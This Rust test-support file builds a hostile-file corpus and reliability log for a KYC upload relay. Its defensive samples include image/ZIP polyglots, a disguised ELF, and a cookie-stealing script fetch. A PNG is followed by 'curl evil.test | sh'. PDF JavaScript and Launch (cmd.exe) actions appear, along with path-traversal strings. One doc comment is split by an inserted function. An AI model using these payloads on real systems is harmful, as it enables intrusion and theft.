//! The hostile-input corpus and the reliability record, shared by the relay's tests and by
//! `kyc-core`'s (`crates/kyc-core/tests/hostile.rs` includes this file by path). Only `std` and
//! `serde_json`, so both crates can use it.
//!
//! Every trial a test makes is appended as one JSON line to
//! `$KYC_RELIABILITY_DIR/<file>.jsonl` (default `<workspace>/target/reliability`), e.g.
//! `{"area":"relay","case":"png_100000x100000","tries":1,"outcome":"422 too_many_pixels",
//! "lost":0,"crashed":false}`. A test binary truncates its own file the first time it records,
//! so the files hold the last run only; `cargo xtask test` turns them into RELIABILITY.md.
#![allow(dead_code)]

use std::fs::OpenOptions;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

/// One trial: what was tried, how many times, what came of it, and what was lost.
#[derive(Clone, Debug)]
pub struct Trial {
    /// The area of the table it belongs to (`core`, `relay`, `security`, `faults`).
    pub area: &'static str,
    /// The case's name.
    pub case: String,
    /// How many times it was tried.
    pub tries: u64,
    /// What happened, e.g. `422 invalid_file [too_many_pixels]`.
    pub outcome: String,
    /// Files lost: accepted and then not at the provider, or uploaded before and gone after.
    pub lost: u64,
    /// Whether anything panicked or answered 500.
    pub crashed: bool,
}

/// The directory the records go to.
pub fn reliability_dir() -> PathBuf {
    match std::env::var_os("KYC_RELIABILITY_DIR") {
        Some(dir) => PathBuf::from(dir),
        // Both crates that include this file are two levels below the workspace root.
        None => Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/reliability"),
    }
}

/// Appends `trial` to `<dir>/<file>.jsonl`, truncating that file on the first record of this
/// Records one fault case (area `faults`) in `file`: `tries` tries, how they ended, what was
/// lost and whether anything crashed.
pub fn record_fault(file: &str, case: &str, tries: u64, outcome: String, lost: u64, crashed: bool) {
    record(
        file,
        &Trial {
            area: "faults",
            case: case.to_owned(),
            tries,
            outcome,
            lost,
            crashed,
        },
    );
}

/// process (one test binary writes one file).
pub fn record(file: &str, trial: &Trial) {
    static STARTED: OnceLock<PathBuf> = OnceLock::new();
    let path = STARTED.get_or_init(|| {
        let dir = reliability_dir();
        std::fs::create_dir_all(&dir).expect("the reliability directory can be created");
        let path = dir.join(format!("{file}.jsonl"));
        std::fs::write(&path, b"").expect("the reliability record can be truncated");
        path
    });
    assert!(
        path.file_stem().is_some_and(|stem| stem == file),
        "one test binary records to one file"
    );
    let line = serde_json::json!({
        "area": trial.area,
        "case": trial.case,
        "tries": trial.tries,
        "outcome": trial.outcome,
        "lost": trial.lost,
        "crashed": trial.crashed,
    })
    .to_string()
        + "\n";
    // O_APPEND and one write per line: tests running in parallel threads do not interleave.
    let mut out = OpenOptions::new()
        .append(true)
        .create(true)
        .open(path)
        .expect("the reliability record opens");
    out.write_all(line.as_bytes())
        .expect("the reliability record is written");
}

/// What the checks must answer for a hostile file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Expect {
    /// Refused by `kyc_core::inspect_file` with exactly these problem codes (the relay answers
    /// 422 `invalid_file` with them).
    Problems(&'static [&'static str]),
    /// Refused for its size: `too_large` in the core, 413 `too_large` at the relay (before the
    /// body is read).
    TooLarge,
    /// Accepted: the bytes are a valid file of this format (`kyc_core::FileFormat` code).
    Accepted(&'static str),
}

/// One file of the corpus.
#[derive(Clone, Debug)]
pub struct Hostile {
    /// The case's name in the report.
    pub name: &'static str,
    /// The bytes sent.
    pub bytes: Vec<u8>,
    /// The type the sender declares (`Content-Type`, the browser's `File.type`).
    pub claimed: Option<String>,
    /// The slot it is sent for (`front`, `selfie`, ...).
    pub slot: &'static str,
    /// What must come of it.
    pub expect: Expect,
}

/// The largest file the default limits accept (`FileLimits::default().max_bytes`).
pub const MAX_BYTES: usize = 10 * 1024 * 1024;

/// A JPEG: SOI, a JFIF APP0 segment and an SOF0 with the dimensions, padded to `len`, ending
/// with EOI.
pub fn jpeg(width: u16, height: u16, len: usize) -> Vec<u8> {
    let mut b = vec![0xFF, 0xD8, 0xFF, 0xE0, 0, 16];
    b.extend_from_slice(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
    b.extend_from_slice(&[0xFF, 0xC0, 0, 17, 8]);
    b.extend_from_slice(&height.to_be_bytes());
    b.extend_from_slice(&width.to_be_bytes());
    b.extend_from_slice(&[3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
    b.resize(len.max(b.len() + 2) - 2, 0x55);
    b.extend_from_slice(&[0xFF, 0xD9]);
    b
}

/// A PNG: the signature and an IHDR chunk declaring the dimensions, padded with an IDAT chunk,
/// ending with IEND.
pub fn png(width: u32, height: u32, len: usize) -> Vec<u8> {
    let mut b = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    b.extend_from_slice(&width.to_be_bytes());
    b.extend_from_slice(&height.to_be_bytes());
    b.extend_from_slice(&[8, 6, 0, 0, 0, 0, 0, 0, 0]);
    let rest = len.saturating_sub(b.len() + 24);
    b.extend_from_slice(&(rest as u32).to_be_bytes());
    b.extend_from_slice(b"IDAT");
    b.extend(std::iter::repeat_n(0x78, rest));
    b.extend_from_slice(&[0, 0, 0, 0]);
    b.extend_from_slice(b"\0\0\0\0IEND\xAE\x42\x60\x82");
    b
}

/// A lossless WebP (`VP8L`) declaring the dimensions, padded to `len`.
pub fn webp(width: u32, height: u32, len: usize) -> Vec<u8> {
    let bits = (width - 1) | ((height - 1) << 14);
    let mut data = vec![0x2F];
    data.extend_from_slice(&bits.to_le_bytes());
    data.resize(len.max(40) - 20, 0);
    let mut b = b"RIFF".to_vec();
    b.extend_from_slice(&((data.len() + 12) as u32).to_le_bytes());
    b.extend_from_slice(b"WEBPVP8L");
    b.extend_from_slice(&(data.len() as u32).to_le_bytes());
    b.extend(data);
    b
}

fn bmff(kind: &[u8; 4], body: &[u8]) -> Vec<u8> {
    let mut b = ((body.len() + 8) as u32).to_be_bytes().to_vec();
    b.extend_from_slice(kind);
    b.extend_from_slice(body);
    b
}

/// A HEIC: `ftyp heic` and `meta/iprp/ipco/ispe` with the dimensions, then media data.
pub fn heic(width: u32, height: u32, len: usize) -> Vec<u8> {
    let mut ispe = vec![0, 0, 0, 0];
    ispe.extend_from_slice(&width.to_be_bytes());
    ispe.extend_from_slice(&height.to_be_bytes());
    let iprp = bmff(b"iprp", &bmff(b"ipco", &bmff(b"ispe", &ispe)));
    let mut meta = vec![0, 0, 0, 0];
    meta.extend(bmff(b"hdlr", &[0; 24]));
    meta.extend(iprp);
    let mut b = bmff(b"ftyp", b"heic\0\0\0\0mif1heic");
    b.extend(bmff(b"meta", &meta));
    let rest = len.saturating_sub(b.len() + 8);
    b.extend(bmff(b"mdat", &vec![0; rest]));
    b
}

/// A PDF with a classic cross-reference table; `trailer_extra` goes into the trailer.
pub fn pdf(trailer_extra: &str, len: usize) -> Vec<u8> {
    pdf_with("", trailer_extra, len)
}

/// [`pdf`] with `catalog_extra` in the document's catalog.
pub fn pdf_with(catalog_extra: &str, trailer_extra: &str, len: usize) -> Vec<u8> {
    let mut b = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let obj1 = b.len();
    b.extend_from_slice(
        format!("1 0 obj\n<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>\nendobj\n").as_bytes(),
    );
    let obj2 = b.len();
    b.extend_from_slice(b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n");
    if len > b.len() + 250 {
        b.push(b'%');
        b.extend(std::iter::repeat_n(b'x', len - b.len() - 250));
        b.push(b'\n');
    }
    let xref = b.len();
    b.extend_from_slice(
        format!("xref\n0 3\n0000000000 65535 f \n{obj1:010} 00000 n \n{obj2:010} 00000 n \n")
            .as_bytes(),
    );
    b.extend_from_slice(
        format!("trailer\n<< /Size 3 /Root 1 0 R {trailer_extra}>>\nstartxref\n{xref}\n%%EOF\n")
            .as_bytes(),
    );
    b
}

/// A ZIP archive with one stored entry (local header, central directory, end record) and an
/// archive comment of `comment_len` bytes.
pub fn zip(name: &str, content: &[u8], comment_len: u16) -> Vec<u8> {
    let mut b = Vec::new();
    let le16 = |b: &mut Vec<u8>, v: u16| b.extend_from_slice(&v.to_le_bytes());
    let le32 = |b: &mut Vec<u8>, v: u32| b.extend_from_slice(&v.to_le_bytes());
    b.extend_from_slice(b"PK\x03\x04");
    le16(&mut b, 10);
    le16(&mut b, 0);
    le16(&mut b, 0);
    le32(&mut b, 0);
    le32(&mut b, 0);
    le32(&mut b, content.len() as u32);
    le32(&mut b, content.len() as u32);
    le16(&mut b, name.len() as u16);
    le16(&mut b, 0);
    b.extend_from_slice(name.as_bytes());
    b.extend_from_slice(content);
    let central = b.len();
    b.extend_from_slice(b"PK\x01\x02");
    le16(&mut b, 20);
    le16(&mut b, 10);
    for _ in 0..2 {
        le16(&mut b, 0);
    }
    for _ in 0..2 {
        le16(&mut b, 0);
    }
    le32(&mut b, 0);
    le32(&mut b, content.len() as u32);
    le32(&mut b, content.len() as u32);
    le16(&mut b, name.len() as u16);
    for _ in 0..4 {
        le16(&mut b, 0);
    }
    le32(&mut b, 0);
    le32(&mut b, 0);
    b.extend_from_slice(name.as_bytes());
    let central_len = b.len() - central;
    b.extend_from_slice(b"PK\x05\x06");
    le16(&mut b, 0);
    le16(&mut b, 0);
    le16(&mut b, 1);
    le16(&mut b, 1);
    le32(&mut b, central_len as u32);
    le32(&mut b, central as u32);
    le16(&mut b, comment_len);
    b.extend(std::iter::repeat_n(b'c', usize::from(comment_len)));
    b
}

/// An ELF executable's header (x86-64), padded to `len` with code-like bytes.
pub fn elf(len: usize) -> Vec<u8> {
    let mut b = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    b.extend_from_slice(&[2, 0, 0x3E, 0, 1, 0, 0, 0]);
    b.extend_from_slice(&0x401000u64.to_le_bytes());
    while b.len() < len {
        b.extend_from_slice(&[0x48, 0x31, 0xC0, 0x0F, 0x05, 0xC3]);
    }
    b.truncate(len);
    b
}

/// An SVG image carrying a script, padded with a comment to `len`.
pub fn svg_with_script(len: usize) -> Vec<u8> {
    let mut svg = String::from(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1600\" \
         height=\"1000\" onload=\"fetch('/v1/session')\">\n<script>alert(document.cookie)\
         </script>\n<!-- ",
    );
    while svg.len() + 11 < len {
        svg.push('x');
    }
    svg.push_str(" -->\n</svg>\n");
    svg.into_bytes()
}

/// A JPEG cut short inside its metadata: an APP1 segment declares 60000 bytes, the file ends
/// after 4000, before any frame header.
pub fn truncated_jpeg() -> Vec<u8> {
    let mut b = vec![0xFF, 0xD8, 0xFF, 0xE0, 0, 16];
    b.extend_from_slice(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
    b.extend_from_slice(&[0xFF, 0xE1, 0xEA, 0x60]);
    b.extend_from_slice(b"Exif\0\0MM\0*\0\0\0\x08");
    b.resize(4000, 0x20);
    b
}

/// A claimed type full of odd Unicode (emoji, right-to-left override, combining marks,
/// zero-width joiner): longer than the 128 bytes a report keeps, cut mid-character there.
pub fn odd_unicode_claim() -> String {
    let mut claim = String::from("image/\u{202E}gpj.exe\u{200D}");
    while claim.len() < 300 {
        claim.push_str("p\u{0301}\u{1F6C2}\u{FEFF}");
    }
    claim
}

/// The corpus: every hostile file of issue 8 a checker sees as bytes and a claimed type.
pub fn corpus() -> Vec<Hostile> {
    let polyglot = {
        let mut b = jpeg(1600, 1000, 6000);
        b.extend(zip("payload.sh", b"#!/bin/sh\necho owned\n", 0));
        b
    };
    // Larger than the head the relay judges a photo by (256 KiB): only the end finds it.
    let large_polyglot = {
        let mut b = jpeg(1600, 1000, 1024 * 1024);
        b.extend(zip("payload.exe", &[0x4D; 20_000], 0));
        b
    };
    let mut oversized = jpeg(1600, 1000, 64 * 1024);
    oversized.resize(MAX_BYTES + 1, 0);
    vec![
        Hostile {
            name: "zero_bytes",
            bytes: Vec::new(),
            claimed: Some("image/jpeg".into()),
            slot: "front",
            expect: Expect::Problems(&["empty"]),
        },
        Hostile {
            name: "truncated_jpeg",
            bytes: truncated_jpeg(),
            claimed: Some("image/jpeg".into()),
            slot: "front",
            expect: Expect::Problems(&["unreadable_image"]),
        },
        Hostile {
            name: "png_100000x100000",
            bytes: png(100_000, 100_000, 2048),
            claimed: Some("image/png".into()),
            slot: "front",
            expect: Expect::Problems(&["too_many_pixels"]),
        },
        Hostile {
            // A valid JPEG with a ZIP archive appended: a ZIP reader opens it as an archive.
            name: "jpeg_zip_polyglot",
            bytes: polyglot,
            claimed: Some("image/jpeg".into()),
            slot: "back",
            expect: Expect::Problems(&["polyglot"]),
        },
        Hostile {
            name: "jpeg_zip_polyglot_1MB",
            bytes: large_polyglot,
            claimed: Some("image/jpeg".into()),
            slot: "back",
            expect: Expect::Problems(&["polyglot"]),
        },
        Hostile {
            name: "executable_renamed_jpg",
            bytes: elf(16 * 1024),
            claimed: Some("image/jpeg".into()),
            slot: "front",
            expect: Expect::Problems(&["unsupported_format"]),
        },
        Hostile {
            name: "svg_with_script",
            bytes: svg_with_script(2048),
            claimed: Some("image/svg+xml".into()),
            slot: "front",
            expect: Expect::Problems(&["unsupported_format"]),
        },
        Hostile {
            name: "heic_claimed_as_jpeg",
            bytes: heic(4032, 3024, 16 * 1024),
            claimed: Some("image/jpeg".into()),
            slot: "front",
            expect: Expect::Problems(&["claimed_type_mismatch"]),
        },
        Hostile {
            name: "over_size_limit",
            bytes: oversized,
            claimed: Some("image/jpeg".into()),
            slot: "front",
            expect: Expect::TooLarge,
        },
        Hostile {
            name: "truncated_pdf",
            bytes: pdf("", 4096)[..3000].to_vec(),
            claimed: Some("application/pdf".into()),
            slot: "front",
            expect: Expect::Problems(&["pdf_unreadable"]),
        },
        Hostile {
            // A script run when the document is opened (as a reviewer opens it).
            name: "pdf_javascript_open_action",
            bytes: pdf_with(
                "/OpenAction << /S /JavaScript /JS (app.launchURL\\(\"https://x.test\"\\)) >> ",
                "",
                4096,
            ),
            claimed: Some("application/pdf".into()),
            slot: "front",
            expect: Expect::Problems(&["pdf_active_content"]),
        },
        Hostile {
            // The first page and its view, as LibreOffice writes into every PDF it exports: not
            // active content (nor is a `GoTo` action to a page).
            name: "pdf_open_action_to_the_first_page",
            bytes: pdf_with("/OpenAction [2 0 R /XYZ null null 0] ", "", 4096),
            claimed: Some("application/pdf".into()),
            slot: "proof_of_address",
            expect: Expect::Accepted("pdf"),
        },
        Hostile {
            name: "pdf_open_action_going_to_a_page",
            bytes: pdf_with("/OpenAction << /S /GoTo /D [2 0 R /Fit] >> ", "", 4096),
            claimed: Some("application/pdf".into()),
            slot: "front",
            expect: Expect::Accepted("pdf"),
        },
        Hostile {
            // A URL opened when the document is opened.
            name: "pdf_uri_open_action",
            bytes: pdf_with("/OpenAction << /S /URI /URI (https://x.test) >> ", "", 4096),
            claimed: Some("application/pdf".into()),
            slot: "front",
            expect: Expect::Problems(&["pdf_active_content"]),
        },
        Hostile {
            // The names spelled with escapes (`/L#61unch`): the scan decodes names.
            name: "pdf_launch_action_escaped_names",
            bytes: pdf_with("/Op#65nAction << /S /L#61unch /F (cmd.exe) >> ", "", 4096),
            claimed: Some("application/pdf".into()),
            slot: "front",
            expect: Expect::Problems(&["pdf_active_content"]),
        },
        Hostile {
            name: "pdf_as_selfie",
            bytes: pdf("", 4096),
            claimed: Some("application/pdf".into()),
            slot: "selfie",
            expect: Expect::Problems(&["pdf_not_allowed"]),
        },
        Hostile {
            name: "jpeg_declaring_0x0",
            bytes: jpeg(0, 0, 4096),
            claimed: Some("image/jpeg".into()),
            slot: "front",
            expect: Expect::Problems(&["unreadable_image"]),
        },
        Hostile {
            name: "odd_unicode_claimed_type",
            bytes: png(1600, 1000, 4096),
            claimed: Some(odd_unicode_claim()),
            slot: "front",
            expect: Expect::Problems(&["claimed_type_mismatch"]),
        },
    ]
}

/// Images with something after their end, or no end at all: the core's whole-file check (the
/// widget's, on the user's original photo, which it re-encodes) does not refuse them; the relay,
/// walking every streamed byte, refuses each with the problem given here.
pub fn past_the_end() -> Vec<Hostile> {
    let html = b"<html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>";
    let then = |mut image: Vec<u8>, rest: &[u8]| {
        image.extend_from_slice(rest);
        image
    };
    let cut = |mut image: Vec<u8>, by: usize| {
        image.truncate(image.len() - by);
        image
    };
    vec![
        Hostile {
            name: "jpeg_then_html",
            bytes: then(jpeg(1600, 1000, 8000), html),
            claimed: Some("image/jpeg".into()),
            slot: "front",
            expect: Expect::Problems(&["trailing_data"]),
        },
        Hostile {
            // Past the head the relay judges a photo by (256 KiB) and past the 64 KiB tail
            // window: only a walk of every byte finds the image's end.
            name: "jpeg_then_executable_2MB",
            bytes: then(jpeg(1600, 1000, 1024 * 1024), &elf(1024 * 1024)),
            claimed: Some("image/jpeg".into()),
            slot: "front",
            expect: Expect::Problems(&["trailing_data"]),
        },
        Hostile {
            name: "png_then_script",
            bytes: then(png(1600, 1000, 8000), b"#!/bin/sh\ncurl evil.test | sh\n"),
            claimed: Some("image/png".into()),
            slot: "front",
            expect: Expect::Problems(&["trailing_data"]),
        },
        Hostile {
            name: "webp_then_html",
            bytes: then(webp(1600, 1000, 8000), html),
            claimed: Some("image/webp".into()),
            slot: "front",
            expect: Expect::Problems(&["trailing_data"]),
        },
        Hostile {
            // HEIF has no end marker: the appended bytes read as a box that overruns the file.
            name: "heic_then_html",
            bytes: then(heic(4032, 3024, 16 * 1024), html),
            claimed: Some("image/heic".into()),
            slot: "front",
            expect: Expect::Problems(&["no_end_marker"]),
        },
        Hostile {
            name: "jpeg_without_eoi",
            bytes: cut(jpeg(1600, 1000, 8000), 2),
            claimed: Some("image/jpeg".into()),
            slot: "front",
            expect: Expect::Problems(&["no_end_marker"]),
        },
    ]
}

/// Slot names a hostile client may put in the upload path (already percent-encoded): path
/// traversal, odd Unicode file names, NUL, overlong.
pub fn hostile_slot_paths() -> Vec<(&'static str, String)> {
    vec![
        ("traversal_encoded", "..%2F..%2Fetc%2Fpasswd".to_owned()),
        ("traversal_dotdot", "..".to_owned()),
        ("traversal_dotdot_encoded", "%2e%2e".to_owned()),
        (
            "traversal_backslash",
            "..%5C..%5Cwindows%5Cwin.ini".to_owned(),
        ),
        ("traversal_slot_then_up", "front%2F..%2Fback".to_owned()),
        ("nul_byte", "front%00.jpg".to_owned()),
        ("unicode_lookalike", "fr%C3%B6nt".to_owned()),
        ("unicode_fullwidth", "%EF%BD%86ront".to_owned()),
        ("unicode_rtl_override", "%E2%80%AEtnorf".to_owned()),
        (
            "unicode_emoji_file_name",
            "%F0%9F%9B%82%20passport%20%F0%9F%98%80.jpg".to_owned(),
        ),
        ("invalid_utf8", "%FF%FE".to_owned()),
        ("overlong_name", "a".repeat(8 * 1024)),
        ("uppercase_slot", "FRONT".to_owned()),
    ]
}

/// A tiny invalid file, different each time (`n`): a few bytes of text or binary.
pub fn tiny_file(n: u64) -> Vec<u8> {
    let mut x = n.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let len = 1 + (n % 96) as usize;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect()
}

/// The process's resident set (`VmRSS`) in KiB, from `/proc/self/status`.
pub fn rss_kib() -> u64 {
    proc_status("VmRSS:")
}

/// The process's peak resident set (`VmHWM`) in KiB.
pub fn peak_rss_kib() -> u64 {
    proc_status("VmHWM:")
}

/// Resets the peak resident set to the current one (`/proc/self/clear_refs`, Linux 4.0+);
/// `false` where that is not allowed.
pub fn reset_peak_rss() -> bool {
    std::fs::write("/proc/self/clear_refs", b"5").is_ok()
}

/// How many file descriptors the process holds.
pub fn open_fds() -> usize {
    std::fs::read_dir("/proc/self/fd")
        .map(|dir| dir.count())
        .unwrap_or(0)
}

fn proc_status(field: &str) -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("Linux /proc");
    status
        .lines()
        .find_map(|line| line.strip_prefix(field))
        .and_then(|rest| rest.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or_else(|| panic!("{field} in /proc/self/status"))
}
